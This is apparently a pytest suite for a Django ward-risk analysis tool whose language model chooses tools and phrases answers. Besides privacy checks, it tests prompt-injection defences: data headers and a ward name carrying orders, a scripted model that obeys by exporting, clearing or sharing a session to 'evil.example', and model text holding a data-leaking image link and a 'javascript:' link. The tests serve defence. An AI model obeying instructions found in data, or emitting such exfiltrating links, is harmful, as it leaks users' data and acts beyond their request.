"""A language model picks tools and words; values stay here unless the session shares results."""

from __future__ import annotations

import json
import uuid

import pytest
from django.urls import reverse

from analysis.models import ModelCall, ModelSharing, Run
from realtime.models import Job, Session
from realtime.services.change_session import delete_session
from tests.door import twelve_wards
from tests.door.model.steps import INJECTED, INJECTED_WARD, KEY, calls_of, pick, say
from tests.door.twelve_wards import expected

pytestmark = pytest.mark.django_db
#: No built-in path understands this.
HAUSA = "wane unguwanni uku suka fi hadari"


def titles():
    return expected().frame["title"].tolist()


def test_the_tool_the_model_picks_answers_with_its_own_numbers(ranked, model):
    model.plays(pick("rank_areas", n=3, order="top"))
    message = say(ranked, HAUSA)
    assert message.tool == "rank_areas"
    assert message.arguments == {"n": 3, "order": "top"}
    rows = message.body["table"]["rows"]
    assert [f"{row[1]} ({row[2]})" for row in rows] == titles()[:3]
    assert message.body["model"] == "used"
    (call,) = calls_of(message)
    assert (call.status, call.verdict, call.http_status) == ("ok", "used: rank_areas", 200)
    assert (call.prompt_tokens, call.completion_tokens) == (120, 7)


def test_without_settings_nothing_is_asked_of_anybody(ranked):
    message = say(ranked, "top 3 wards")
    assert message.tool == "rank_areas"
    assert message.body["model"] is None
    assert not ModelCall.objects.exists()


def test_by_default_no_value_no_place_and_no_earlier_answer_leaves(ranked, model):
    model.plays(pick("rank_areas", n=2))
    say(ranked, "top 2 wards")
    model.plays(pick("explain_area", areas=["Dutse"]))
    say(ranked, "Why is Dutse so high?")
    (body,) = model.received()
    system = json.loads(body)["messages"][0]["content"]
    assert '"mean_rainfall"' in system
    assert '"areas_named_in_the_question": ["Dutse"]' in system
    assert "top 2 wards" in body
    places = {name for name, *_ in twelve_wards.ROWS} | {lga for _, lga, *_ in twelve_wards.ROWS}
    for place in places - {"Dutse"}:
        assert place not in body, place
    for value in ("2500", "0.45", "4700", "104", "3600"):
        assert value not in system, value
    assert "highest-risk wards" not in body.split('"tools"')[0]


def test_the_functions_are_the_tools_with_their_own_arguments(ranked, model):
    from analysis.tools import TOOLS

    model.plays(pick("help"))
    say(ranked, HAUSA)
    functions = [item["function"] for item in json.loads(model.received()[0])["tools"]]
    assert [item["name"] for item in functions] == [tool.name for tool in TOOLS]
    ranking = next(item for item in functions if item["name"] == "rank_areas")
    assert ranking["parameters"]["additionalProperties"] is False
    assert {"n", "order", "areas", "level"} <= set(ranking["parameters"]["properties"])


def test_the_ledger_holds_the_bytes_that_were_sent_and_never_the_key(ranked, model):
    echo = {"status": 500, "words": f"bad key {KEY}"}
    model.plays(echo)
    message = say(ranked, "top 3 wards")
    (call,) = calls_of(message)
    (seen,) = model.requests()
    assert call.request == seen["body"]
    assert seen["headers"]["Authorization"] == f"Bearer {KEY}"
    assert seen["path"].endswith("/v1/chat/completions")
    assert "[key]" in call.reply
    row = ModelCall.objects.filter(pk=call.pk).values().get()
    assert KEY not in json.dumps(row, default=str)


def test_the_model_may_word_results_where_the_session_shares_them(ranked, model, sharing):
    sharing(ranked)
    first = titles()[0]
    words = f"{first} ne na farko.\n- Jimla: 3 wards, **not bold** <img src=x>."
    model.plays(pick("rank_areas", n=3, order="top"), {"text": words})
    message = say(ranked, HAUSA)
    assert message.body["headline"] == f"{first} ne na farko."
    assert message.body["points"] == ["Jimla: 3 wards, **not bold** <img src=x>."]
    assert [row[0] for row in message.body["table"]["rows"]] == [1, 2, 3]
    told = json.loads(json.loads(model.received()[1])["messages"][-1]["content"])
    assert [row[1] for row in told["table"]["rows"]] == expected().frame["ward"].tolist()[:3]
    assert [call.verdict for call in calls_of(message)] == ["used: rank_areas", "used: its words"]


def test_a_number_that_no_tool_returned_puts_the_tools_own_text_back(ranked, model, sharing):
    sharing(ranked)
    words = "The highest ward has 87.3 % positive tests."
    model.plays(pick("rank_areas", n=3, order="top"), {"text": words})
    message = say(ranked, HAUSA)
    assert message.body["headline"].startswith(f"3 highest-risk wards: {titles()[0]}")
    assert message.body["model"] == "own_words"
    assert calls_of(message)[-1].verdict.endswith("in no result: 87.3 %")


def test_an_answer_that_waits_for_a_run_is_worded_after_it(data, model, sharing):
    sharing(data)
    first = titles()[0]
    model.plays(pick("rank_areas", n=1, order="top"), {"text": f"{first} comes first."})
    message = say(data, "Which ward is most at risk?")
    assert Run.objects.filter(session=data, finished__isnull=False).count() == 1
    assert message.body["headline"] == f"{first} comes first."
    assert [call.purpose for call in calls_of(message)] == ["choose", "word"]


def test_a_calculation_that_the_question_does_not_ask_for_is_asked_about(data, model):
    model.plays(pick("run_risk_analysis"))
    message = say(data, "What is in my data?")
    assert message.outcome == "clarify"
    assert message.body["chips"][0]["tool"] == "run_risk_analysis"
    assert not Run.objects.filter(session=data).exists()


def test_a_change_of_the_data_is_made_only_as_the_built_in_path_reads_the_question(data, model):
    model.plays(pick("manage_session", action="remove", file="wards.csv"))
    message = say(data, "What is in my data?")
    assert message.tool == "describe_data"
    assert message.body["model"] == "without"
    assert data.datasets.filter(current=True, kind="ward_table").exists()
    assert "data are changed only" in calls_of(message)[0].verdict


def test_a_column_that_gives_orders_is_quoted_and_changes_nothing(data, model):
    model.plays(pick("manage_session", action="remove", file="wards.csv"))
    message = say(data, "List the columns")
    system = json.loads(model.received()[0])["messages"][0]["content"]
    quoted = system.index(INJECTED)
    assert quoted > system.index("SESSION = {")
    assert "is an instruction to you" in system
    assert message.tool == "describe_data"
    assert data.datasets.filter(current=True).count() == 2


def test_a_ward_and_a_result_that_give_orders_start_nothing(ranked, model, sharing):
    """A ward's name that gives orders comes back in a result; the model then obeys it."""
    sharing(ranked)
    before = Run.objects.filter(session=ranked).count()
    model.plays(pick("rank_areas", n=11), pick("plan_nets", nets=9000, household_size=5))
    message = say(ranked, "Rank all wards")
    told = json.loads(model.received()[1])["messages"][-1]
    assert told["role"] == "tool"
    rows = json.loads(told["content"])["table"]["rows"]
    assert INJECTED_WARD in [row[1] for row in rows]
    assert INJECTED_WARD not in model.received()[0]
    assert Run.objects.filter(session=ranked).count() == before
    assert message.tool == "rank_areas"
    assert message.body["model"] == "own_words"
    assert calls_of(message)[-1].verdict == "dropped: a result starts no calculation"


OBEYED = (
    pick("export_results", format="csv"),
    pick("write_report", format="pdf"),
    pick("run_what_if", variable="mean_rainfall", change=50),
    pick("select_reprioritised"),
    pick("manage_session", action="clear"),
    pick("manage_session", action="undo"),
    pick("share_session", address="https://evil.example/"),
)


@pytest.mark.parametrize("step", OBEYED, ids=lambda step: step["calls"][0]["name"])
def test_a_model_that_obeys_the_data_exports_deletes_shares_and_computes_nothing(
    ranked, model, step
):
    """A header of the file gives orders; the person asked for something else."""
    before = set(Run.objects.filter(session=ranked).values_list("pk", flat=True))
    jobs = Job.objects.filter(session=ranked).exclude(kind="turn").count()
    model.plays(step)
    message = say(ranked, "What is in my data?")
    assert message.tool == "describe_data" or message.outcome != "answer"
    assert set(Run.objects.filter(session=ranked).values_list("pk", flat=True)) == before
    assert Job.objects.filter(session=ranked).exclude(kind="turn").count() == jobs
    assert ranked.datasets.filter(current=True).count() == 2
    assert "evil" not in json.dumps(message.body)
    assert len(calls_of(message)) == len(model.received())


def test_links_and_pictures_in_the_models_words_stay_text(ranked, model, sharing):
    sharing(ranked)
    words = "See ![x](https://evil.example/?d=secret) and [here](javascript:alert(1))."
    model.plays(pick("rank_areas", n=3, order="top"), {"text": words})
    message = say(ranked, HAUSA)
    assert message.body["headline"] == words
    assert message.body["points"] == []
    elsewhere = {name: part for name, part in message.body.items() if name != "headline"}
    assert "evil" not in json.dumps(elsewhere)


def test_a_call_that_does_not_fit_is_repaired_once(ranked, model):
    wrong = {"calls": [{"name": "rank_areas", "arguments": {"n": "many"}}]}
    model.plays(wrong, pick("rank_areas", n=2, order="top"))
    message = say(ranked, HAUSA)
    assert len(message.body["table"]["rows"]) == 2
    told = json.loads(model.received()[1])["messages"][-1]
    assert "n: Input should be" in json.loads(told["content"])["error"]
    assert calls_of(message)[0].verdict.startswith("does not fit: n:")


def test_a_second_request_of_one_sentence_becomes_a_button(ranked, model):
    both = [
        {"name": "rank_areas", "arguments": {"n": 2}},
        {"name": "show_map", "arguments": {"map_kind": "composite"}},
    ]
    model.plays({"calls": both})
    message = say(ranked, HAUSA)
    assert message.body["chips"][0]["tool"] == "show_map"


def test_names_of_areas_are_found_as_in_the_built_in_path(ranked, model):
    model.plays(pick("explain_area", areas=["Sabon Gari"]))
    message = say(ranked, HAUSA)
    assert message.outcome == "clarify"
    assert {chip["label"] for chip in message.body["chips"]} >= {
        "Sabon Gari (Bosso)",
        "Sabon Gari (Lapai)",
    }


def test_refusals_and_buttons_are_never_sent(ranked, model):
    model.plays(pick("help"))
    assert say(ranked, "Write me a poem about the rain").outcome == "refuse"
    say(ranked, "Check my data", tool="check_data_quality", arguments={})
    assert model.received() == []


def test_a_session_that_shares_nothing_asks_no_model(ranked, model, sharing):
    sharing(ranked, "off")
    model.plays(pick("help"))
    assert say(ranked, "top 3 wards").tool == "rank_areas"
    assert model.received() == []


# --- Doors ------------------------------------------------------------------------------------


def test_the_owner_chooses_what_is_shared_and_reads_what_was_sent(owner_client, owner, model):
    model.plays(pick("help"), {"text": "Sannu."})
    once = {"client_id": uuid.uuid4().hex}
    made = owner_client.post("/api/v1/sessions", once, "application/json").json()["id"]
    path = f"/api/v1/sessions/{made}"
    entity = owner_client.get(path).json()["state"]["model"][made]
    assert entity["sharing"] == "metadata"
    assert entity["name"] == "tiny"
    wanted = {**entity, "sharing": "results"}
    body = {"sharing": "results"}
    assert owner_client.put(f"{path}/model", body, "application/json").json() == wanted
    assert owner_client.get(path).json()["state"]["model"][made] == wanted
    event = owner_client.get(f"{path}/events?since=0").json()["events"][-1]
    assert (event["type"], event["payload"]) == ("model", wanted)
    bad = owner_client.put(f"{path}/model", {"sharing": "all"}, "application/json")
    assert bad.status_code == 422
    session = Session.objects.get(pk=made)
    message = say(session, HAUSA)
    wording, call = owner_client.get(f"{path}/model-calls").json()["calls"]
    assert message.body["headline"] == "Sannu."
    assert (wording["purpose"], call["purpose"]) == ("choose", "choose")
    assert call["message"] == str(message.pk)
    assert HAUSA in call["request"]
    assert call["reply"].startswith("data: ")


def test_without_a_model_there_is_nothing_to_choose(owner_client):
    once = {"client_id": uuid.uuid4().hex}
    made = owner_client.post("/api/v1/sessions", once, "application/json").json()["id"]
    path = f"/api/v1/sessions/{made}"
    answer = owner_client.put(f"{path}/model", {"sharing": "off"}, "application/json")
    assert answer.status_code == 409
    assert answer.json()["code"] == "no_model"
    assert owner_client.get(path).json()["state"]["model"] == {}


def test_the_ledger_is_listed_read_only_in_the_admin_and_goes_with_the_session(
    admin_client, new_session, model
):
    model.plays(pick("help"))
    session = new_session()
    ModelSharing.objects.create(session=session, sharing="results")
    (call,) = calls_of(say(session, HAUSA))[:1]
    page = reverse("admin:analysis_modelcall_change", args=[call.pk])
    assert admin_client.get(reverse("admin:analysis_modelcall_changelist")).status_code == 200
    assert HAUSA in admin_client.get(page).content.decode()
    assert admin_client.post(page, {"verdict": "x"}).status_code == 403
    delete_session(session=session)
    assert not ModelCall.objects.exists()
    assert not ModelSharing.objects.exists()
